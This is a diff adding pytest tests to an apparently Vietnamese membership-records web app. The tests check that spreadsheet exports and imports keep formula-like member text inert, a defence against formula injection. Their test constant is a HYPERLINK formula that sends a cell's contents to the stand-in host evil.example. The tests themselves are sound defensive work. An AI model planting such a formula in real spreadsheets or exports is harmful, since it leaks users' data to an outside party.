@@ -144,3 +144,77 @@ def test_generated_rows_never_crash_nor_half_write(two_provinces, rows):
     assert all(p["message"] for p in upload.problems)
     assert Member.objects.count() == before + upload.created
     assert stats_drift() == []
+
+
+# --- formula-like text (OWASP's formula injection) ------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Bấm")'
+
+
+def test_formula_like_text_exports_as_text_and_imports_back_unchanged(client, two_provinces):
+    """A member whose occupation is a formula: the list downloads it as text (never a live
+    formula), and the file imports back without changing anyone."""
+    from openpyxl import load_workbook
+
+    from tests.core.test_excel import formulas_in
+    from tochuc.imports.parsing import find_header_row, match_headers, parse_row
+    from tochuc.imports.reading import read_rows
+    from tochuc.imports.services import import_start
+    from tochuc.members.services import member_update
+
+    a, _ = two_provinces
+    texts = {
+        "occupation": HYPERLINK,
+        "birth_place": "+84 Hà Nội",
+        "hometown": "-",
+        "other_names": "@an",
+    }
+    member_update(actor=a.staff, member=a.members[0], changes=texts)
+    client.force_login(a.staff)
+    response = client.get(f"/members/?organization={a.province.pk}&format=xlsx")
+    data = b"".join(response.streaming_content)
+    assert formulas_in(data) == []
+    sheet = load_workbook(BytesIO(data)).active
+    written = [c for row in sheet.iter_rows() for c in row if c.value == HYPERLINK]
+    assert len(written) == 1 and written[0].data_type == "s" and written[0].quotePrefix
+    rows = read_rows(data, "ds.xlsx")
+    header = find_header_row(rows)
+    mapping = match_headers(rows[header])
+    mine = next(r for r in rows[header + 1 :] if HYPERLINK in r)
+    values, errors = parse_row({field: mine[i] for i, field in mapping.items()})
+    assert errors == {}
+    assert {f: values[f] for f in texts} == texts
+    upload = import_upload(actor=a.staff, organization=a.province, file_name="back.xlsx", data=data)
+    import_start(actor=a.staff, upload=upload, dry_run=False)
+    upload.refresh_from_db()
+    assert (upload.unchanged, upload.rejected) == (3, 0), upload.problems
+    assert Member.objects.get(pk=a.members[0].pk).occupation == HYPERLINK
+
+
+def test_rejected_rows_keep_a_files_formula_like_text_as_text(client, two_provinces):
+    from tests.core.test_excel import formulas_in
+    from tochuc.core.excel import cells
+
+    a, _ = two_provinces
+
+    def fill(sheet):
+        # An attacker's file holds the text as text (as Excel does with a leading quote).
+        sheet.append(cells(sheet, HEADERS))
+        sheet.append(cells(sheet, person(1, "Lò Văn Sáu", x8=HYPERLINK)))
+
+    upload = run(a.staff, a.province, _book(fill), dry_run=True)
+    assert upload.rejected == 1
+    client.force_login(a.staff)
+    data = client.get(f"/imports/{upload.pk}/rejected.xlsx").content
+    assert formulas_in(data) == []
+    from openpyxl import load_workbook
+
+    values = [c.value for c in load_workbook(BytesIO(data)).active[2]]
+    assert HYPERLINK in values
+
+
+def test_the_import_template_has_no_formula_cell(client, two_provinces):
+    from tests.core.test_excel import formulas_in
+
+    client.force_login(two_provinces[0].staff)
+    assert formulas_in(client.get("/imports/mau-nhap-dang-vien.xlsx").content) == []
